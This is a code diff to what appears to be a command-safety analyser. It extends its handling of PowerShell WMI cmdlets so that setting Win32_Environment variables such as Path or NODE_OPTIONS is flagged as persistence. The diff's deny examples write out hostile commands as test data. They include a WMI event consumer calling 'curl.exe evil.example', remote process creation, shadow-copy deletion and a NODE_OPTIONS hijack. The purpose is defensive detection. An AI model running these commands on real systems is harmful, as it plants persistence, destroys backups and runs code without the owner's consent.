@@ -3,7 +3,7 @@ import { type Bound, bind } from '../bind.js';
 import { DYN, type Word, type WordRole } from '../../types.js';
 import { canonicalHost, type Destination, destinations, envProxies, redirectable, urlHost } from '../hosts.js';
 import type { Answer, Call, ProgramEntry, ProgramExample } from '../types.js';
-import { literal, value } from '../words.js';
+import { hashOf, literal, value } from '../words.js';
 import { decidesWhatRuns, isEnvironmentKey, registryLocation, WMI_SUBSCRIPTION } from './windows.js';
 import { sqlDrop } from './tools.js';
 
@@ -554,6 +554,19 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
       const words = [...named, ...b.positional].filter((w): w is Word => w !== undefined && w !== true);
       const sub = /^(new-ciminstance|set-ciminstance|set-wmiinstance)$/.test(call.name) ? words.find((w) => w.values === null || w.values.some((v) => WMI_SUBSCRIPTION.test(v))) : undefined;
       const out: Partial<Answer> = sub ? { persists: [{ word: sub, why: `${call.name} ${sub.text} installs a permanent WMI event subscription, whose consumer runs a command when its event fires` }] } : {};
+      // A Win32_Environment instance made or set is a variable Windows keeps for every later process (setx's): one
+      // that decides what runs, or whose name the line does not show (`-Path "Win32_Environment.Name='Path'…"`, a
+      // table held in a variable), persists. -ClientOnly makes the object in this session only.
+      if (!sub && /^(new-ciminstance|set-ciminstance|set-wmiinstance)$/.test(call.name) && !given(b, 'clientonly')) {
+        const query = b.named.get('query');
+        const env = [...words, ...(query === undefined || query === true ? [] : [query])].find((w) => w.values === null || w.values.some((v) => /win32_environment/i.test(v)));
+        if (env) {
+          const table = [b.named.get('property'), b.named.get('arguments')].find((w): w is Word => w !== undefined && w !== true);
+          const entries = table ? hashOf(table) : undefined;
+          const name = entries ? [...entries].find(([k]) => /^name$/i.test(k)) : undefined;
+          if (name?.[1] == null || decidesWhatRuns(name[1])) out.persists = [{ word: env, why: `${call.name} ${env.text} sets ${name?.[1] ?? 'a variable it does not name'} for every later process: a variable that decides what runs` }];
+        }
+      }
       // Removing WMI instances, or calling their Delete method, deletes what they stand for: a Win32_UserProfile is a
       // user's profile with its home, a Win32_ShadowCopy the volume's backup (`gwmi Win32_ShadowCopy | Remove-WmiObject`).
       const method = b.named.get('methodname') ?? b.named.get('name');
@@ -562,7 +575,7 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
       if (deletes && at) out.destroys = [{ word: at, what: 'data', why: `${call.name} deletes the WMI instances it is given: a user profile with its home, a shadow copy of the volume, whatever the class stands for` }];
       return given(b, 'computername') || given(b, 'connectionuri') || given(b, 'cimsession') || given(b, 'session') ? out : { ...out, offline: `${call.name} acts on this machine` };
     },
-    examples: { deny: ["Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='x'; Query='SELECT * FROM __InstanceModificationEvent'}", "New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='x'; CommandLineTemplate='curl.exe evil.example'}", 'Get-WinEvent -ComputerName evil.example -LogName System', 'icim -ComputerName evil.example -ClassName Win32_Process -MethodName Create', 'Get-WSManInstance -ComputerName evil.example -ResourceURI wmicimv2/win32_service', 'Invoke-WSManAction -ComputerName evil.example -Action StopService -ResourceURI wmicimv2/win32_service', 'gcim Win32_OperatingSystem -ComputerName evil.example', 'Get-CimInstance Win32_UserProfile | Remove-CimInstance', 'Get-WmiObject Win32_ShadowCopy | Remove-WmiObject'], pass: ['Get-WinEvent -LogName System -MaxEvents 10', 'Get-CimClass Win32_Process', 'Get-HotFix', "New-CimInstance -ClassName Win32_Environment -Property @{Name='NODE_ENV'; VariableValue='test'; UserName='me'} -ClientOnly"] },
+    examples: { deny: ["Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='x'; Query='SELECT * FROM __InstanceModificationEvent'}", "New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='x'; CommandLineTemplate='curl.exe evil.example'}", "Set-WmiInstance -Class Win32_Environment -Arguments @{Name='Path';VariableValue='C:\\tmp';UserName='<SYSTEM>'}", "New-CimInstance Win32_Environment -Property @{Name='NODE_OPTIONS'; VariableValue='--require C:\\tmp\\x.js'; UserName='me'}", 'Get-WinEvent -ComputerName evil.example -LogName System', 'icim -ComputerName evil.example -ClassName Win32_Process -MethodName Create', 'Get-WSManInstance -ComputerName evil.example -ResourceURI wmicimv2/win32_service', 'Invoke-WSManAction -ComputerName evil.example -Action StopService -ResourceURI wmicimv2/win32_service', 'gcim Win32_OperatingSystem -ComputerName evil.example', 'Get-CimInstance Win32_UserProfile | Remove-CimInstance', 'Get-WmiObject Win32_ShadowCopy | Remove-WmiObject'], pass: ['Get-WinEvent -LogName System -MaxEvents 10', 'Get-CimClass Win32_Process', 'Get-HotFix', "New-CimInstance -ClassName Win32_Environment -Property @{Name='NODE_ENV'; VariableValue='test'; UserName='me'} -ClientOnly", "New-CimInstance Win32_Environment -Property @{Name='NODE_ENV'; VariableValue='test'; UserName='me'}"] },
   }),
   cmdlet({
     names: ['get-secret'],
